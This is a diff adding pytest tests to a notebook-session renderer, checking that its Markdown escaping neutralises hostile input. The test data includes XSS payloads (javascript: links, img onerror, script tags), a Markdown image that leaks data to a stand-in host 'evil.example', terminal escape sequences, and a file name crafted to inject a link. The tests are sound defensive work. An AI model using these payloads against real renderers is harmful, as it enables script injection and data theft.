@@ -7,6 +7,7 @@ import struct
 import zlib
 from pathlib import Path
 
+import pytest
 from nb_rounds import HOSTILE, analysis_round
 
 from twnb.memory import Attachment, AttachmentType, Post, PromptUtil, derive_plan
@@ -14,6 +15,7 @@ from twnb.session.round_bundle import (
     MIME_TYPE,
     PREVIEW_CAP_BYTES,
     artifact_previews,
+    escape_markdown,
     plan_from_round,
     round_bundle,
 )
@@ -82,6 +84,46 @@ def test_payload_is_json_serialisable():
 def test_plan_from_round_follows_the_planner_posts_to_the_end():
     plan = plan_from_round(analysis_round())
     assert [s.state for s in plan.subtasks] == ["done", "done"]
+
+
+def _rendered(markdown: str) -> str:
+    """The HTML nbconvert (so nbviewer) makes of a Markdown output."""
+    from nbconvert.filters.markdown_mistune import markdown2html_mistune
+
+    return markdown2html_mistune(markdown)
+
+
+HOSTILE_MARKDOWN = [
+    "![chart](https://evil.example/leak.png?q=secret)",  # would load (and leak) on render
+    "[click me](javascript:alert(1))",
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+    "`<img src=x onerror=alert(1)>``",  # a code span that never closes
+    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
+    "<script>alert(1)</script>",
+    "<https://evil.example>",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
+def test_hostile_message_renders_without_elements_links_or_images(text):
+    html = _rendered(round_bundle(analysis_round(message=text), session_id="s-1")["text/markdown"])
+    assert "<img" not in html and "<script" not in html
+    assert 'href="javascript' not in html
+
+
+def test_escaped_markdown_still_reads_as_the_text():
+    text = "Use `df['a'] < 3` and [x] & y\n```python\nprint('<b>')\n```"
+    html = _rendered(escape_markdown(text))
+    assert "<code>df['a'] &lt; 3</code>" in html
+    assert "[x] &amp; y" in html
+    assert "print" in html and "&lt;b&gt;" in html
+
+
+def test_plain_text_has_no_terminal_control_sequences():
+    hostile = "ok\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31mred\x1b[0m\r\nnext"
+    text = round_bundle(analysis_round(message=hostile), session_id="s-1")["text/plain"]
+    assert "okred\nnext" in text
+    assert not any(ord(c) < 32 and c not in "\n" for c in text)
 
 
 def test_markdown_shows_raw_html_as_text():
@@ -169,3 +211,48 @@ def test_no_error_placeholder_is_not_shown_as_an_error():
     bundle = round_bundle(round, session_id="s-1")
     assert "No error is found" not in bundle["text/markdown"]
     assert "No error is found" not in bundle["text/plain"]
+
+
+def _displayed_figure(round, png: Path, artifact: str):
+    """The Round's code displayed `png` (captured in its execution_result) and saved it as `artifact`."""
+    import base64
+
+    post = Post.create("made a figure", "CodeInterpreter", "Planner")
+    result = Attachment.create(AttachmentType.execution_result, "The execution succeeded.")
+    data = base64.b64encode(png.read_bytes()).decode("ascii")
+    result.extra = {"outputs": [{"output_type": "display_data", "data": {"image/png": data}, "metadata": {}}]}
+    post.add_attachment(result)
+    post.add_attachment(Attachment.create(AttachmentType.artifact_paths, [artifact]))
+    round.add_post(post)
+    return round, post, result
+
+
+def test_displayed_figure_preview_points_at_its_output_instead_of_a_copy(tmp_path):
+    png = _png(tmp_path / "fig.png", 20, 10)
+    round, post, result = _displayed_figure(analysis_round(), png, "fig.png")
+    (preview,) = artifact_previews(round, tmp_path)
+    assert "data" not in preview
+    assert preview["output"] == {"post_id": post.id, "attachment_id": result.id, "index": 0}
+    assert preview["size"] == png.stat().st_size
+
+
+def test_markdown_links_artifact_images_instead_of_embedding_them(tmp_path):
+    _png(tmp_path / "my fig.png", 20, 10)
+    round = _with_artifact(analysis_round(), "my fig.png")
+    bundle = round_bundle(round, session_id="s", previews=artifact_previews(round, tmp_path))
+    assert "![my fig.png](my%20fig.png)" in bundle["text/markdown"]
+    assert "base64" not in bundle["text/markdown"]
+    assert bundle[MIME_TYPE]["twnb"]["previews"][0]["data"]  # the lab renderer's thumbnail stays
+
+
+def test_hostile_artifact_name_cannot_pick_a_scheme_or_end_the_link(tmp_path):
+    import re
+
+    (tmp_path / "d").mkdir()
+    _png(tmp_path / "d" / "javascript:alert(1))![x](https:evil.png", 4, 4)
+    round = _with_artifact(analysis_round(), "d/javascript:alert(1))![x](https:evil.png")
+    bundle = round_bundle(round, session_id="s", previews=artifact_previews(round, tmp_path))
+    html = _rendered(bundle["text/markdown"])
+    encoded = "d/javascript%3Aalert%281%29%29%21%5Bx%5D%28https%3Aevil.png"
+    assert re.findall(r'<img src="([^"]*)"', html) == [encoded]
+    assert 'href="javascript' not in html
